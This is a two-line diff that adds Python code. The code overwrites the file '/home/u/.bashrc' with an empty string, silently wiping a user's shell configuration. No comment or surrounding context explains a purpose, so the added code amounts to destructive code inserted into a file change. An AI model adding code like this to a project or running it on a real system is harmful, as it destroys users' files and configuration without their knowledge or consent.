@@ -0,0 +1,2 @@
+for p in ['/home/u/.bashrc'][:]:
+    open(p, 'w').write('')